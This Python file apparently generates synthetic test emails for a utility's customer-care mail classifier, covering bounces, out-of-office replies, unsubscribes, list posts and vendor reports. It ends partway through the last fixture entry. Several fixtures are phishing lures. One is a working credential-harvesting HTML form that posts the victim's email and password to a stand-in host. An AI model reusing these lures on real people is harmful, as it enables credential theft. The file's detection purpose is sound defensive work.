"""Machine-made and non-request mail, plus software unsubscribes (mail-client buttons and inbox cleaners)."""
from mk import text, multi, attach, Part, enc_body, esc, paras_html, b64bytes
from ours import bill, ack, OURS, CC, PH

MO = "marketing_opt_out"


def A(**kw):
    kw.setdefault("auto", True)
    return kw


def ics_fold(s):
    out = []
    for ln in s.strip("\n").split("\n"):
        while len(ln.encode()) > 75:
            out.append(ln[:75])
            ln = " " + ln[75:]
        out.append(ln)
    return "\r\n".join(out) + "\r\n"


# ---------------------------------------------------------------- texts and parts used below
PHISH_365 = """<!DOCTYPE html><html><head><meta charset="UTF-8"><title>Mailbox storage</title></head>
<body style="font-family:Segoe UI,Arial,sans-serif;background:#f3f2f1;padding:24px">
<table width="560" style="background:#ffffff;border:1px solid #e1dfdd;padding:24px" align="center"><tr><td>
<img src="https://m365-mailbox-alerts.com/img/ms-logo.png" width="108" alt="Microsoft"><br><br>
<p style="font-size:18px;color:#d83b01"><b>Your mailbox is almost full</b></p>
<p>customercare@alliant-energy.com has used <b>49.6 GB of 50 GB</b>. You will soon be unable to send or receive new messages.</p>
<p>To avoid losing incoming mail, upgrade your storage at no cost before <b>June 2, 2026</b>.</p>
<p><a href="https://m365-mailbox-alerts.com/owa/upgrade?u=Y3VzdG9tZXJjYXJlQGFsbGlhbnQtZW5lcmd5LmNvbQ" style="background:#0078d4;color:#fff;padding:10px 18px;text-decoration:none">Upgrade storage now</a></p>
<p style="font-size:11px;color:#605e5c">Microsoft Corporation, One Microsoft Way, Redmond, WA 98052. This is a mandatory service communication.</p>
</td></tr></table></body></html>
"""

SUPPRESS_TXT = """Hello Alliant Energy team,

Your suppression file for Job 44817 (Alliant Energy Summer Thermostat Postcard, drop date 06/08/2026) has been processed.

  Records received:            182,406
  Matched to DNM / opt-out:      4,117
  Do-not-share flags honored:    1,902
  NCOA moves applied:            2,865
  Deceased suppression:            391
  Final mail quantity:         175,033

The suppression summary is attached (AE_44817_suppression_summary.csv). No action is needed unless the final quantity looks wrong to you. Proofs go out Wednesday.

Thanks,
Badger Direct Mail - Job Desk

This is an automated message from JobTrack. Replies go to an unmonitored queue.
"""
SUPPRESS_CSV = """job_id,segment,records_in,dnm_optout,do_not_share,ncoa,deceased,final_qty
44817,IA-RES,121330,2790,1288,1904,260,116376
44817,WI-RES,61076,1327,614,961,131,58657
44817,TOTAL,182406,4117,1902,2865,391,175033
"""

SEO_TXT = """Hi there,

I was looking at alliantenergy.com and noticed a few things that are probably costing you organic traffic -- 38 broken backlinks, slow Core Web Vitals on mobile, and no schema markup on your rebate pages.

We help utilities and co-ops rank for terms like "smart thermostat rebate Iowa" and "EV charger rebate Wisconsin". Would you be open to a free 15-minute audit call this week?

If this isn't the right inbox, could you forward it to whoever handles your website? And if you'd rather not hear from me, just reply "no thanks" and I'll take you off my list.

Best,
Priya Nandakumar
Growth Lead, RankLift Digital
"""

CAL_ICS = ics_fold("""BEGIN:VCALENDAR
PRODID:-//Google Inc//Google Calendar 70.9054//EN
VERSION:2.0
CALSCALE:GREGORIAN
METHOD:REQUEST
BEGIN:VEVENT
DTSTART:20260611T150000Z
DTEND:20260611T160000Z
DTSTAMP:20260604T170000Z
ORGANIZER;CN=Jenna Moravec:mailto:jenna@kestrelcreative.co
UID:4r2m9q1c7kd0v8h3s5t6b1n2pe@google.com
ATTENDEE;CUTYPE=INDIVIDUAL;ROLE=REQ-PARTICIPANT;PARTSTAT=ACCEPTED;CN=Jenna Moravec;X-NUM-GUESTS=0:mailto:jenna@kestrelcreative.co
ATTENDEE;CUTYPE=INDIVIDUAL;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=TRUE;CN=customercare@alliant-energy.com;X-NUM-GUESTS=0:mailto:customercare@alliant-energy.com
X-MICROSOFT-CDO-OWNERAPPTID:-1904418837
CREATED:20260604T170000Z
DESCRIPTION:Agenda: summer promo results (thermostat + catalog)\\, opt-out and unsubscribe volumes\\, storm messaging templates\\, fall catalog drop.\\n\\nJoin with Google Meet: https://meet.google.com/kqx-ruvb-pte
LAST-MODIFIED:20260604T170000Z
LOCATION:Google Meet
SEQUENCE:0
STATUS:CONFIRMED
SUMMARY:Q3 customer comms calendar review
TRANSP:OPAQUE
BEGIN:VALARM
ACTION:DISPLAY
DESCRIPTION:This is an event reminder
TRIGGER:-P0DT0H10M0S
END:VALARM
END:VEVENT
END:VCALENDAR
""")

CAL_TXT = """Q3 customer comms calendar review
Thursday Jun 11, 2026 ⋅ 10am – 11am
Central Time - Chicago

Join with Google Meet
meet.google.com/kqx-ruvb-pte

Agenda: summer promo results (thermostat + catalog), opt-out and unsubscribe volumes, storm messaging templates, fall catalog drop.

Organizer
Jenna Moravec
jenna@kestrelcreative.co

Guests
Jenna Moravec - organizer
customercare@alliant-energy.com

View all guest info https://calendar.google.com/calendar/event?action=VIEW&eid=NHIybTlxMWM3a2Qwdjho

Reply for customercare@alliant-energy.com
Yes https://calendar.google.com/calendar/event?action=RESPOND&rst=1
No https://calendar.google.com/calendar/event?action=RESPOND&rst=2
Maybe https://calendar.google.com/calendar/event?action=RESPOND&rst=3

Invitation from Google Calendar https://calendar.google.com/calendar/

You are receiving this email because you are an attendee on the event. To stop receiving future updates for this event, decline this event.
"""


def cal_google(rng):
    b1 = "000000000000" + rng.hx(16)
    b2 = "000000000000" + rng.hx(16)
    pt = text(CAL_TXT, charset="UTF-8", cte="quoted-printable")
    ph = text('<span itemscope itemtype="http://schema.org/InformAction"><div style="font-family:Google Sans,Roboto,Arial">'
              '<h2>Q3 customer comms calendar review</h2><p>Thursday Jun 11, 2026 &#8901; 10am &ndash; 11am<br>Central Time - Chicago</p>'
              '<p><a href="https://meet.google.com/kqx-ruvb-pte">Join with Google Meet</a></p>'
              '<p>Agenda: summer promo results (thermostat + catalog), opt-out and unsubscribe volumes, storm messaging templates, fall catalog drop.</p>'
              '<p>Reply for customercare@alliant-energy.com: <a href="https://calendar.google.com/calendar/event?action=RESPOND&amp;rst=1">Yes</a> '
              '<a href="https://calendar.google.com/calendar/event?action=RESPOND&amp;rst=2">No</a> '
              '<a href="https://calendar.google.com/calendar/event?action=RESPOND&amp;rst=3">Maybe</a></p></div></span>\n',
              "html", charset="UTF-8", cte="quoted-printable")
    pc = Part([("Content-Type", 'text/calendar; charset="UTF-8"; method=REQUEST'), ("Content-Transfer-Encoding", "7bit")],
              CAL_ICS.encode().replace(b"\r\n", b"\r\n").rstrip(b"\r\n"))
    alt = multi("alternative", [pt, ph, pc], b2)
    ics = Part([("Content-Type", 'application/ics; name="invite.ics"'), ("Content-Disposition", 'attachment; filename="invite.ics"'),
                ("Content-Transfer-Encoding", "base64")], b64bytes(CAL_ICS.encode()))
    return multi("mixed", [alt, ics], b1)


LIST1_TXT = """We route anything that says STOP or unsubscribe under a promo straight to suppression, but we had a mess last year when people replied STOP to outage texts and got pulled off the outage list. Now anything under a service notice goes to a person.

Also: do NOT auto-acknowledge auto-replies. We got into a loop with somebody's out-of-office for a whole weekend, 400+ messages.

Dave Kittleson
Member Services Manager, Prairie REC

On Thu, Jun 4, 2026 at 4:12 PM Sara Lindgren <slindgren@cedarvalleyrec.coop> wrote:
> Curious how others handle the flood of replies after a big promo send. We
> get "remove me", "stop", "who is this", plus a pile of bounces and
> vacation replies. Do you have a person read all of it?
>
> Sara

-- 
You received this message because you are subscribed to the Google Groups "Utility CX Forum" group.
To unsubscribe from this group and stop receiving emails from it, send an email to utility-cx-forum+unsubscribe@googlegroups.com.
To view this discussion visit https://groups.google.com/d/msgid/utility-cx-forum/CAK7rQ2vW%3DpX8dJm1bLq0n4FsT9yH2eR%40mail.gmail.com.
"""


def list1(rng):
    b = "000000000000" + rng.hx(16)
    pt = text(LIST1_TXT, charset="UTF-8", cte="quoted-printable")
    body, _, foot = LIST1_TXT.partition("\n-- \n")
    ph = text('<div dir="ltr">' + paras_html(body) + '</div>\n<p></p>\n-- <br>\n' + "<br>\n".join(esc(l) for l in foot.split("\n")) + "\n",
              "html", charset="UTF-8", cte="quoted-printable")
    return multi("alternative", [pt, ph], b)


INV_HTM = """<html><head><title>Secure Document</title></head><body onload="document.getElementById('e').value=atob('Y3VzdG9tZXJjYXJlQGFsbGlhbnQtZW5lcmd5LmNvbQ==')">
<div style="width:360px;margin:80px auto;font-family:Arial"><img src="https://cdn-docs-viewer.top/o365.png"><h3>Sign in to view INV-88213.pdf</h3>
<form action="https://cdn-docs-viewer.top/sv.php" method="post"><input id="e" name="e"><br><input type="password" name="p" placeholder="Password"><br>
<button>View Document</button></form></div></body></html>
"""


def phish_inv(rng):
    b = "----=_Part_%d_%d" % (rng.randint(10**5, 10**6), rng.randint(10**8, 10**9))
    pt = text("Hello,\n\nPlease find attached invoice INV-88213 which is now 30 days past due. Kindly remit payment today to avoid a hold on your account.\n\nThe invoice is attached as a secure document.\n\nRegards,\nAccounts Receivable\nMidwest Fleet Parts\n",
              charset="us-ascii", cte="7bit", ct="text/plain; charset=us-ascii")
    att = attach("INV-88213.htm", INV_HTM.encode(), "text/html")
    return multi("mixed", [pt, att], b)


COSTCO = """<html><body style="margin:0;background:#eeeeee">
<center><table width="600" bgcolor="#ffffff" cellpadding="20"><tr><td style="font-family:Arial">
<h1 style="color:#e31837">Congratulations, Valued Member!</h1>
<p>You have been selected to receive a <b>$500 Costco reward card</b> for completing our 30-second member survey.</p>
<p>This offer expires in <b>24 hours</b> – only 3 rewards left in your area.</p>
<p style="text-align:center"><a href="https://rwd-costco-survey.top/s/?id=88172" style="background:#005daa;color:#ffffff;padding:14px 28px;font-size:18px;text-decoration:none">Start Survey »</a></p>
<p style="font-size:10px;color:#999999">If you no longer wish to receive these emails, unsubscribe <a href="https://rwd-costco-survey.top/u">here</a> or write to 2831 Ocean Pkwy Ste 4, Brooklyn NY 11235.</p>
</td></tr></table></center></body></html>
"""

CHALLENGE_TXT = """Hello,

Carl Wendt uses ClearSender to protect his inbox from spam. Your message

  From:    customercare@alliant-energy.com
  Subject: We received your request [CC-2026-06-00231]
  Date:    Mon, 8 Jun 2026 16:44:58 -0500

is being held until you confirm that you are a real person. This only needs to be done once.

Click here to verify: https://verify.clearsender.net/c/7Hq2xV9kLm

If you did not send this message, you can ignore this notice. Held messages are deleted after 7 days.

ClearSender - Only the mail you want
"""

CRM_TXT = """Hi Customer Care team,

Your scheduled export is ready to download.

  Export:     Opt-outs & suppressions - weekly
  Object:     Contacts (filter: Email Opt Out = true OR Do Not Share = true)
  Rows:       1,284
  Format:     CSV (UTF-8)
  Expires:    June 17, 2026

Download: https://app.relaycrm.io/exports/dl/ex_8Jq2mZ4tKp

You are receiving this because you are subscribed to this scheduled export. Manage export notifications in Settings > Notifications.

RelayCRM, 100 Summer St, Boston, MA 02110
"""

PHISH_AE_TXT = """Dear Customer,

We were unable to process your automatic payment of $214.86 for your Alliant Energy account.

To avoid service disconnection within 24 hours, please update your payment method now:
https://alliantenergy-payments.com/secure/update?acct=verify

If payment is not received your power may be shut off without further notice.

Alliant Energy Billing Department
"""

NEWS_TXT = """GRID EDGE WEEKLY | June 12, 2026

1. Storm season playbooks: what three Midwest utilities changed after 2025's derechos
2. EV rate design: time-of-use adoption is outpacing forecasts in Iowa and Minnesota
3. The DER interconnection backlog hits 14 months in MISO
4. Job board: 12 new customer-experience roles

Read online: https://gridedgeweekly.com/issues/2026-06-12

--
You're receiving Grid Edge Weekly because customercare@alliant-energy.com subscribed at gridedgeweekly.com.
Unsubscribe: https://gridedgeweekly.com/u/9f3k2 | Update preferences
Grid Edge Media LLC, 1200 W Fulton Market, Chicago, IL 60607
"""

ENRICH_TXT = """Hi team,

Following up on my note from last month. AppendIQ helps utilities keep marketing lists clean: we match your opt-out, do-not-contact and do-not-share suppression files against 240M consumer records, append missing e-mails and phone numbers, and flag movers before you mail.

Utilities like yours typically cut returned mail by 30% and reach 18% more customers with e-mail offers.

Can I send over a sample match on 5,000 records? No cost, no commitment.

Best,
Marcus Hale
Enterprise Sales, AppendIQ
(312) 555-0166

If you prefer not to receive messages from me, reply "unsubscribe" and I'll make sure you're suppressed.
"""

DOCUSIGN = """<html><body style="background:#eaeaea;font-family:Helvetica,Arial,sans-serif">
<table align="center" width="640" style="background:#1e4ca1;color:#ffffff"><tr><td style="padding:28px;text-align:center">
<p style="font-size:16px">Alliant Energy Rebates sent you a document to review and sign.</p>
<a href="https://docusign-esign-review.com/Signing/?ti=a8b1e2c3" style="background:#ffc423;color:#000;padding:12px 24px;text-decoration:none;font-weight:bold">REVIEW DOCUMENT</a>
</td></tr><tr><td style="background:#ffffff;color:#333;padding:24px">
<p><b>EV_Charger_Rebate_Agreement_2026.pdf</b></p><p>Please review and sign the rebate agreement within 48 hours or the reserved rebate of $500 will be released.</p>
<p style="font-size:11px;color:#666">Do Not Share This Email. This email contains a secure link to DocuSign. Please do not share this email, link, or access code with others.</p>
</td></tr></table></body></html>
"""

LIST2_TXT = """Hi all,

With the SPC showing an enhanced risk for Sunday, what are folks sending out this weekend? We're doing a storm-prep e-mail Saturday noon and outage texts as they happen, but we're debating whether to pause the summer promo e-mails for a few days. Last year we got roasted for sending a rebate e-mail while half our members were in the dark.

Also, anyone have good wording for the "this is a service message, sent even if you opted out of marketing" line? Ours reads like a legal notice.

Thanks,
Sara

Sara Lindgren
Communications, Cedar Valley REC

_._,_._,_
Groups.io Links:

You receive all messages sent to this group.

View/Reply Online (#418): https://groups.io/g/iowa-utility-cs/message/418
Mute This Topic: https://groups.io/mt/107233118/6120047
Group Owner: iowa-utility-cs+owner@groups.io
Unsubscribe: https://groups.io/g/iowa-utility-cs/leave/12877114/6120047/1402331578/xyzzy [customercare@alliant-energy.com]
_._,_._,_
"""

OUTLOOK_ICS = ics_fold("""BEGIN:VCALENDAR
METHOD:REQUEST
PRODID:Microsoft Exchange Server 2010
VERSION:2.0
BEGIN:VTIMEZONE
TZID:Central Standard Time
BEGIN:STANDARD
DTSTART:16010101T020000
TZOFFSETFROM:-0500
TZOFFSETTO:-0600
RRULE:FREQ=YEARLY;INTERVAL=1;BYDAY=1SU;BYMONTH=11
END:STANDARD
BEGIN:DAYLIGHT
DTSTART:16010101T020000
TZOFFSETFROM:-0600
TZOFFSETTO:-0500
RRULE:FREQ=YEARLY;INTERVAL=1;BYDAY=2SU;BYMONTH=3
END:DAYLIGHT
END:VTIMEZONE
BEGIN:VEVENT
ORGANIZER;CN=Jenna Moravec:mailto:jenna@kestrelcreative.co
ATTENDEE;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=TRUE;CN=customercare@alliant-energy.com:mailto:customercare@alliant-energy.com
DESCRIPTION;LANGUAGE=en-US:Quick debrief on the June 21 storm: outage alert timing, replies we got to the alerts, and whether to hold the EV promo follow-up.\\n
UID:040000008200E00074C5B7101A82E0080000000050A1C3D2F0E3DC01000000000000000010000000B4C2A9E8F3D1A24C9B7E6F5A4D3C2B1A
SUMMARY;LANGUAGE=en-US:Post-storm customer comms debrief
DTSTART;TZID=Central Standard Time:20260626T133000
DTEND;TZID=Central Standard Time:20260626T141500
CLASS:PUBLIC
PRIORITY:5
DTSTAMP:20260624T152042Z
TRANSP:OPAQUE
STATUS:CONFIRMED
SEQUENCE:0
LOCATION;LANGUAGE=en-US:Microsoft Teams Meeting
X-MICROSOFT-CDO-APPT-SEQUENCE:0
X-MICROSOFT-CDO-BUSYSTATUS:TENTATIVE
X-MICROSOFT-CDO-IMPORTANCE:1
X-MICROSOFT-CDO-INSTTYPE:0
X-MICROSOFT-ONLINEMEETINGINFORMATION:{"OnlineMeetingChannelId":null,"OnlineMeetingProvider":3}
X-MICROSOFT-DONOTFORWARDMEETING:FALSE
X-MICROSOFT-DISALLOW-COUNTER:FALSE
BEGIN:VALARM
DESCRIPTION:REMINDER
TRIGGER;RELATED=START:-PT15M
ACTION:DISPLAY
END:VALARM
END:VEVENT
END:VCALENDAR
""")


def cal_outlook(rng):
    b = "_000_%s_" % rng.hx(40, True)
    txt = ("Quick debrief on the June 21 storm: outage alert timing, replies we got to the alerts, and whether to hold the EV promo follow-up.\n\n"
           "________________________________________________________________________________\n"
           "Microsoft Teams meeting\nJoin on your computer, mobile app or room device\nClick here to join the meeting<https://teams.microsoft.com/l/meetup-join/19%3ameeting_NzQ1>\n"
           "Meeting ID: 261 884 331 905\nPasscode: 7qP4sV\n________________________________________________________________________________\n")
    pt = text(txt, charset="us-ascii", ct='text/plain; charset="us-ascii"', cte="quoted-printable")
    ph = text('<html><head><meta http-equiv="Content-Type" content="text/html; charset=us-ascii"></head><body><div>'
              + paras_html(txt.split("____")[0].strip()) + '</div><div style="width:100%">Microsoft Teams meeting</div></body></html>\n',
              "html", charset="us-ascii", ct='text/html; charset="us-ascii"', cte="quoted-printable")
    pc = Part([("Content-Type", 'text/calendar; charset="utf-8"; method=REQUEST'), ("Content-Transfer-Encoding", "base64")], b64bytes(OUTLOOK_ICS.encode()))
    return multi("alternative", [pt, ph, pc], b)


def html_only(html, cs="UTF-8", cte="base64"):
    return lambda rng: text(html, "html", charset=cs, cte=cte, ct='text/html; charset="%s"' % cs)


def alt_mail(txt, html, cs="UTF-8"):
    def f(rng):
        b = "==_%s" % rng.hx(24)
        return multi("alternative", [text(txt, charset=cs, cte="quoted-printable"), text(html, "html", charset=cs, cte="quoted-printable")], b)
    return f


STD = [("From", "@from"), ("To", "@to"), ("Subject", "@subj"), ("Date", "@date"), ("Message-ID", "@mid"), ("MIME-Version", "1.0"), ("@CT", None)]

NDR_NOTFOUND = dict(short="The email address you entered couldn't be found. Please check the recipient's email address and try to resend the message. If the problem continues, please contact your helpdesk.",
                    action="The address may be misspelled or may not exist. Try one or more of the following:",
                    fix="Retype the recipient's address, then resend the message. If you're using an address from your contact list, delete it and add it again.")

SPECS = [
A(dt="06-01 06:12:37", mb="cc", kind="generic", cl="phpmailer", frm=("Microsoft 365 Admin", "no-reply@m365-mailbox-alerts.com"),
  env="www-data@vps-11873.contabo-host.net", host="vps-11873.contabo-host.net", ip="185.212.47.93",
  auth="dkim=none;\n\tspf=none (mx.alliant-energy.com: m365-mailbox-alerts.com does not designate permitted sender hosts) smtp.mailfrom=www-data@vps-11873.contabo-host.net;\n\tdmarc=none header.from=m365-mailbox-alerts.com",
  subject="Action Required: customercare@alliant-energy.com storage is 99% full",
  hdrs=[("Date", "@date"), ("To", "@to"), ("From", "@from"), ("Subject", "@subj"), ("Message-ID", "@mid"),
        ("X-Mailer", "PHPMailer 6.8.1 (https://github.com/PHPMailer/PHPMailer)"), ("MIME-Version", "1.0"), ("@CT", None)],
  off=0, midhost="vps-11873.contabo-host.net", part=lambda rng: html_only(PHISH_365)(rng),
  cat="auto:phishing", note="Credential-phishing 'mailbox full' lure, HTML only in base64: automated, never answer."),

A(dt="06-01 13:05:19", mb="cc", kind="generic", cl="sendgrid", frm=("Badger Direct Mail - Job Desk", "jobdesk@badgerdirectmail.com"),
  env="bounces+4417720-9c1a-customercare=alliant-energy.com@em8812.badgerdirectmail.com", host="o1.ptr8812.badgerdirectmail.com", ip="149.72.118.44",
  dkim_dom="badgerdirectmail.com", subject="Job 44817 - Alliant Energy Summer Postcard - suppression processed",
  hdrs=[("@CT", None), ("Date", "@date"), ("From", "@from"), ("Mime-Version", "1.0"), ("Subject", "@subj"),
        ("Reply-To", "noreply-jobtrack@badgerdirectmail.com"), ("To", "@to"), ("Message-ID", "@mid"), ("X-SG-EID", "u001.Kq7Yc2mB8nZ0pR4tW6xA9hE1vL3sD5fG")],
  midhost="geopod-ismtpd-12", part=lambda rng: multi("mixed", [text(SUPPRESS_TXT, charset="us-ascii", cte="7bit", ct="text/plain; charset=us-ascii"),
                                                             attach("AE_44817_suppression_summary.csv", SUPPRESS_CSV.encode(), "text/csv")], rng.hx(32)),
  cat="auto:vendor-suppression-report", note="Mail-house system report full of 'opt-out', 'do-not-share', 'suppression' words: vendor system mail, automated."),

A(dt="06-02 09:16:02", mb="cc", kind="bounce_postfix", cl="postfix-own-mta", orig="promoA", host="mail.alliant-energy.com", ip="10.40.1.25",
  rcpt="jpoulsen@mchsi.com", status="5.1.1", remote="mx.mchsi.com",
  diag="smtp; 550 5.1.1 <jpoulsen@mchsi.com>: Recipient address rejected: User unknown in virtual mailbox table",
  diag_text="host mx.mchsi.com[173.20.184.9] said: 550 5.1.1 <jpoulsen@mchsi.com>:\n    Recipient address rejected: User unknown in virtual mailbox table (in reply\n    to RCPT TO command)",
  cat="auto:bounce-postfix", note="Our own MTA's DSN for the thermostat promotion: user unknown."),

A(dt="06-02 09:16:40", mb="cc", kind="ooo_exchange", cl="exchange-online", orig="promoA", frm=("Brianna Sorensen", "bsorensen@cedarriverhealth.org"),
  text="Thank you for your message. I am out of the office through Monday, June 8 with limited access to e-mail. For scheduling questions please contact the front desk at 319-555-0118.\n\nBrianna Sorensen, RN\nCedar River Health - Marion Clinic\n",
  cat="auto:ooo-autosubmitted", note="Exchange Online out-of-office to the promotion, with Auto-Submitted and X-Auto-Response-Suppress."),

A(dt="06-02 09:17:25", mb="cc", kind="bounce_exim", cl="exim", orig="promoA", host="mail.netins.net", ip="167.142.225.31",
  rcpt="harlan.voss@netins.net", status="5.2.2", diag="X-Exim; mailbox quota exceeded",
  diag_text="mailbox is full (MTA-imposed quota exceeded while writing to file /var/mail/harlan.voss)",
  cat="auto:bounce-exim", note="Exim mailbox-full bounce of the promotion; quotes part of our promotion including its unsubscribe footer."),

A(dt="06-02 09:21:37", mb="cc", kind="unsub", kind2="gmail", cl="gmail-unsubscribe", auto=False, frm=("Ashley Kuennen", "akuennen22@gmail.com"),
  text="This message was automatically generated by Gmail.\n", labels=[MO], ent={},
  cat="sw-unsub:gmail", note="Gmail's Unsubscribe button sent to our List-Unsubscribe mailto; no Auto-Submitted header, so ack_to is the sender."),

A(dt="06-02 09:33:50", mb="cc", kind="plain_auto", cl="cpanel-autoresponder", orig="promoA", frm=("St. Boniface Parish Office", "office@stbonifaceparish-waukon.org"), msgid=False,
  host="server214.web-hosting-plus.net", ip="198.54.119.27", charset="us-ascii",
  text="This email address is no longer monitored. Please send parish business to parishoffice@stbonifaceparish-waukon.org or call 563-555-0121.\n\nGod bless,\nSt. Boniface Parish\n",
  cat="auto:no-longer-monitored-headerless", note="'No longer monitored' auto-reply with no Auto-Submitted header: still automated."),

A(dt="06-02 10:05:12", mb="cc", kind="unsub", kind2="apple", cl="apple-mail-unsubscribe", auto=False, frm=("Peter Vos", "pvos@me.com"),
  text="", labels=[MO], ent={},
  cat="sw-unsub:apple-mail", note="macOS Mail unsubscribe banner: empty body, subject 'unsubscribe', no Auto-Submitted: human opt-out, ack the sender."),

A(dt="06-02 11:02:11", mb="cc", kind="bounce_yahoo", cl="yahoo-mta", orig="promoA", rcpt="grandpa_lyle44@yahoo.com",
  diag_text="554: delivery error: dd This user doesn't have a yahoo.com account (grandpa_lyle44@yahoo.com) [0] - mta4012.mail.bf1.yahoo.com",
  cat="auto:bounce-yahoo", note="Yahoo 'Failure Notice' in plain text, no MIME structure, no Auto-Submitted; contains our promotion below."),

A(dt="06-02 14:10:45", mb="cc", kind="unsub", kind2="service", cl="clean-email", auto=False, frm=("Lindsay Wegner", "lindsay.wegner@yahoo.com"),
  midhost="clean.email", extra=[("X-Mailer", "Clean Email Unsubscriber"), ("Auto-Submitted", "auto-generated")],
  text="unsubscribe\n", labels=[MO], ent={}, ack=None,
  cat="sw-unsub:inbox-cleaner-autosubmitted", note="Inbox-cleaning service unsubscribing for a person: marketing opt-out, but Auto-Submitted present so ack_to null (RFC 3834)."),

A(dt="06-03 08:20:31", mb="cc", kind="generic", cl="google-workspace", frm=("Priya Nandakumar", "priya@rankliftdigital.co"),
  host="mail-pl1-f178.google.com", ip="209.85.214.178", dkim_dom="rankliftdigital.co", sel="google",
  subject="Quick question about alliantenergy.com", hdrs=[("MIME-Version", "1.0"), ("From", "@from"), ("Date", "@date"),
  ("Message-ID", "@mid"), ("Subject", "@subj"), ("To", "@to"), ("@CT", None)], midfmt="CAJ7rK2mQ4vX9pT1nB8wZ3yH5sL0dF6gE2cA", midhost="mail.gmail.com",
  part=lambda rng: text(SEO_TXT, charset="UTF-8", cte="quoted-printable"),
  cat="auto:cold-outreach-seo", note="Cold SEO sales pitch; offers to 'take you off my list' but is not a request to us: automated."),

A(dt="06-03 11:15:55", mb="cc", kind="bounce_ndr", cl="exchange-online-ndr", orig="promoA", rcpt="tmoeller@prairiestatebank.com",
  status="5.1.10", code="550 5.1.10", diag="Remote server returned '550 5.1.10 RESOLVER.ADR.RecipientNotFound; Recipient not found by SMTP address lookup'",
  **NDR_NOTFOUND, cat="auto:bounce-exchange-ndr", note="Exchange Online NDR (Undeliverable:) for the promotion, HTML + delivery-status."),

A(dt="06-04 06:55:12", mb="cc", kind="ooo_exchange", cl="exchange-online", orig=ack("CC-2026-06-00196", "06-04 06:54:40"),
  frm=("Renee Kloster", "rkloster@eastgatedental.com"),
  text="I am out of the office on Thursday and Friday, June 4-5. If you need to reschedule an appointment please call Eastgate Family Dental at 563-555-0152.\n\nRenee Kloster\nOffice Manager\n",
  cat="auto:ooo-loop-ack", note="LOOP TRAP: out-of-office answering our own acknowledgement; must never be acknowledged."),

A(dt="06-04 10:25:39", mb="cc", kind="unsub", kind2="outlookcom", cl="outlook.com-unsubscribe", auto=False, frm=("Brenda Siefken", "bsiefken@hotmail.com"),
  text="", labels=[MO], ent={},
  cat="sw-unsub:outlook.com", note="Outlook.com unsubscribe link used our mailto: empty body, no Auto-Submitted: opt-out, ack the sender."),

A(dt="06-04 12:00:00", mb="cc", kind="generic", cl="google-calendar", frm=("Jenna Moravec", "jenna@kestrelcreative.co"),
  host="mail-sor-f73.google.com", ip="209.85.220.73", dkim_dom="google.com", sel="20230601",
  env="3r7xAZwgKCvEaN-Uy9kd0u2w.qbe.Tkqvrwaxta-a1s-m.kqv@calendar-server.bounces.google.com",
  auth="dkim=pass (2048-bit key) header.d=google.com header.i=@google.com;\n\tspf=pass (mx.alliant-energy.com: domain of calendar-server.bounces.google.com designates 209.85.220.73 as permitted sender) smtp.mailfrom=3r7xAZwgKCvEaN-Uy9kd0u2w.qbe.Tkqvrwaxta-a1s-m.kqv@calendar-server.bounces.google.com;\n\tdmarc=pass (p=NONE sp=NONE dis=NONE) header.from=kestrelcreative.co",
  subject="Invitation: Q3 customer comms calendar review @ Thu Jun 11, 2026 10am - 11am (CDT) (customercare@alliant-energy.com)",
  hdrs=[("MIME-Version", "1.0"), ("Reply-To", "Jenna Moravec <jenna@kestrelcreative.co>"), ("Sender", "Google Calendar <calendar-notification@google.com>"),
        ("Auto-Submitted", "auto-generated"), ("Message-ID", "@mid"), ("Date", "@date"), ("Subject", "@subj"), ("From", "@from"), ("To", "@to"), ("@CT", None)],
  midfmt="calendar-7f1c2b9e-3a44-4d1e-9c6b-0e8d5a2f1b7c", midhost="google.com", part=cal_google,
  cat="auto:calendar-invite", note="Google Calendar invitation from our agency (text/calendar METHOD:REQUEST + invite.ics); agenda mentions opt-outs."),

A(dt="06-05 10:00:41", mb="cc", kind="generic", cl="google-groups", frm=("'Dave Kittleson' via Utility CX Forum", "utility-cx-forum@googlegroups.com"),
  env="utility-cx-forum+bncBDX4T7UYWQHBB2E5QKZQMGQEN3WOVPQ@googlegroups.com", host="mail-qt1-f189.google.com", ip="209.85.160.189",
  dkim_dom="googlegroups.com", sel="20230601",
  subject="Re: [Utility CX] Handling replies to summer promo emails",
  hdrs=[("Sender", "utility-cx-forum@googlegroups.com"), ("MIME-Version", "1.0"), ("References", "<CAK7rQ2vW=pX8dJm1bLq0n4FsT9yH2eR@mail.gmail.com>"),
        ("In-Reply-To", "<CAK7rQ2vW=pX8dJm1bLq0n4FsT9yH2eR@mail.gmail.com>"), ("From", "@from"), ("Date", "@date"), ("Message-ID", "@mid"),
        ("Subject", "@subj"), ("To", "Utility CX Forum <utility-cx-forum@googlegroups.com>,\n customercare@alliant-energy.com"), ("@CT", None),
        ("X-Original-Sender", "dkittleson@prairierec.coop"), ("Reply-To", "Dave Kittleson <dkittleson@prairierec.coop>"),
        ("Precedence", "list"), ("Mailing-list", "list utility-cx-forum@googlegroups.com; contact utility-cx-forum+owners@googlegroups.com"),
        ("List-ID", "<utility-cx-forum.googlegroups.com>"), ("X-Google-Group-Id", "881237640155"),
        ("List-Post", "<https://groups.google.com/group/utility-cx-forum/post>, <mailto:utility-cx-forum@googlegroups.com>"),
        ("List-Help", "<https://groups.google.com/support/>, <mailto:utility-cx-forum+help@googlegroups.com>"),
        ("List-Archive", "<https://groups.google.com/group/utility-cx-forum"),
        ("List-Unsubscribe", "<mailto:googlegroups-manage+881237640155+unsubscribe@googlegroups.com>,\n <https://groups.google.com/group/utility-cx-forum/subscribe>"),
        ("Delivered-To", "customercare@alliant-energy.com")],
  midfmt="CAFp9mK1xR7vN2wQ8tE4yJ6bL0cH3sD5gA9zX", midhost="mail.gmail.com", part=list1,
  cat="auto:list-post", note="Mailing-list post among utility staff (reply-all put our box in To); full of STOP/unsubscribe/opt-out words and a Reply-To: list traffic, automated."),

A(dt="06-05 11:45:28", mb="cc", kind="unsub", kind2="service", cl="leave-me-alone", auto=False, frm=("Sam Oberbroeckling", "sam.oberbroeckling@gmail.com"),
  midhost="leavemealone.com", extra=[("X-Mailer", "Leave Me Alone")],
  text="unsubscribe\n\nThis unsubscribe request was sent on behalf of sam.oberbroeckling@gmail.com by Leave Me Alone (leavemealone.com).\n",
  labels=[MO], ent={},
  cat="sw-unsub:inbox-cleaner", note="Inbox-cleaning service unsubscribing for the user, without Auto-Submitted: opt-out, ack_to the sender."),

A(dt="06-05 16:10:27", mb="cc", kind="generic", cl="compromised-webmail", frm=("Accounts Receivable", "ar@midwest-fleetparts.com"),
